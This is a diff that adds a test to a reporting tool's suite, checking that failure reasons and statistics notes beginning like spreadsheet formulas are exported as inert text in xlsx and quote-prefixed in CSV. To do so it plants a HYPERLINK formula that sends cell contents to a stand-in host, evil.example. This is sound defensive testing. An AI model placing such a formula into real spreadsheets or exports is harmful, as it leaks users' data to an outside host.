@@ -607,3 +607,24 @@ def test_posts_whose_slot_passed_without_going_out_are_counted_and_never_reporte
     overview = {r[0]: r[1] for r in openpyxl.load_workbook(tmp_path / "r.xlsx")["概况"].iter_rows(values_only=True)}
     assert overview["时间已过仍未发出（条）"] == past
     assert json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["overdue"] == past
+
+
+def test_report_cells_a_spreadsheet_would_run_as_formulas_are_text(simulated: Path, tmp_path: Path) -> None:
+    """A failure reason (from a platform) or a statistics note that starts like a formula: the workbook stores it as
+    text, the CSV marks it with a leading `'`, so neither Excel nor LibreOffice runs it."""
+    hostile = '=HYPERLINK("//evil.example/?"&A1,"点击")'
+    db = copy_db(simulated, tmp_path)
+    with sqlite3.connect(db) as conn:
+        (post_id,) = conn.execute("SELECT id FROM posts ORDER BY id LIMIT 1").fetchone()
+        conn.execute("UPDATE posts SET state = 'failed', last_error = ? WHERE id = ?", (hostile, post_id))
+        conn.execute("UPDATE stat_days SET state = 'delay', note = ? WHERE source = 'screen:center' AND day = '2016-09-29'", ("@SUM(1)",))
+    for fmt in ("xlsx", "csv"):
+        done = run_qm("report", "-c", simulated, "--db", db, "--format", fmt, "-o", tmp_path / f"f.{fmt}")
+        assert done.returncode == 0, done.stderr
+    book = openpyxl.load_workbook(tmp_path / "f.xlsx")
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    assert hostile in [c.value for c in cells] and "@SUM(1)" in [c.value for c in cells]
+    rows = list(csv.reader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8-sig"))))
+    assert "'" + hostile in [cell for row in rows for cell in row]
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
